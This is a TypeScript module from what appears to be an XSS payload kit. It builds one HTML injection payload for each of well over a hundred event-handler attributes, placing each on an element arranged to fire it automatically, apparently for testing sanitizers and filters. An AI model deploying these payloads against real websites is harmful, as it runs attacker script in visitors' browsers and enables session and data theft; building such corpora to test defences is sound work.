import { JS, type XssPayload } from './xss-payload-kit';

/**
 * One payload per event-handler attribute in public use (HTML, SVG, Chromium-only and legacy
 * names; about as many as the public cheat sheets use), each on an element that can fire it.
 */
const MEDIA = `canplay canplaythrough durationchange emptied ended loadeddata loadedmetadata loadstart pause play
  playing progress ratechange seeked seeking stalled suspend timeupdate volumechange waiting encrypted waitingforkey
  enterpictureinpicture leavepictureinpicture abort`;
const WINDOW = `afterprint beforeprint beforeunload hashchange languagechange message messageerror offline online
  pagehide pageshow pagereveal pageswap popstate rejectionhandled storage unhandledrejection unload resize
  orientationchange devicemotion deviceorientation deviceorientationabsolute`;
const FORM = 'submit reset formdata';
const FIELD = `change input invalid select search beforeinput focusin focusout blur selectstart keydown keypress keyup
  copy cut paste beforecopy beforecut beforepaste`;
const SMIL = 'begin end repeat';
const DIALOG = 'close cancel';
const TOGGLE = 'beforetoggle';
const TRACK = 'cuechange';
const GENERIC = `auxclick beforematch click command contextlost contextmenu contextrestored dblclick drag dragend
  dragenter dragleave dragover dragstart drop load mousedown mouseenter mouseleave mousemove mouseout mouseover
  mouseup mousewheel wheel scroll scrollend scrollsnapchange scrollsnapchanging securitypolicyviolation slotchange
  pointerdown pointerup pointermove pointerover pointerout pointerleave pointercancel pointerrawupdate
  gotpointercapture lostpointercapture animationend animationiteration animationcancel transitionstart
  transitionend transitionrun transitioncancel webkitanimationstart webkitanimationend webkitanimationiteration
  webkittransitionend touchstart touchend touchmove touchcancel selectionchange fullscreenchange fullscreenerror
  webkitfullscreenchange webkitfullscreenerror contentvisibilityautostatechange beforexrselect activate
  beforeactivate beforedeactivate deactivate beforeupdate afterupdate errorupdate filterchange help losecapture
  move moveend movestart propertychange readystatechange rowenter rowexit rowsdelete rowsinserted finish bounce
  dataavailable datasetchanged datasetcomplete layoutcomplete cellchange show mozfullscreenchange
  beforescriptexecute afterscriptexecute`;

const names = (list: string) => list.split(/\s+/).filter(Boolean);

const on = (event: string) => `on${event}="${JS}"`;

const templates: Array<[string, (event: string) => string]> = [
  [MEDIA, (e) => `<video src="x" controls muted autoplay ${on(e)}></video>`],
  [WINDOW, (e) => `<body ${on(e)}>`],
  [FORM, (e) => `<form ${on(e)}><button>go</button></form>`],
  [FIELD, (e) => `<input value="x" autofocus ${on(e)}>`],
  [SMIL, (e) => `<svg><animate ${on(e)} attributeName="x" dur="1s" repeatCount="2"></animate></svg>`],
  [DIALOG, (e) => `<dialog open ${on(e)}>x</dialog>`],
  [TOGGLE, (e) => `<div popover id="p" ${on(e)}>x</div><button popovertarget="p">x</button>`],
  [TRACK, (e) => `<video src="x"><track default src="x" ${on(e)}></video>`],
  [GENERIC, (e) => `<p tabindex="1" draggable="true" ${on(e)}>x</p>`],
];

export const eventHandlers: XssPayload[] = templates.flatMap(([list, html]) =>
  names(list).map((event) => ({ name: `handler on${event}`, html: html(event) })),
);
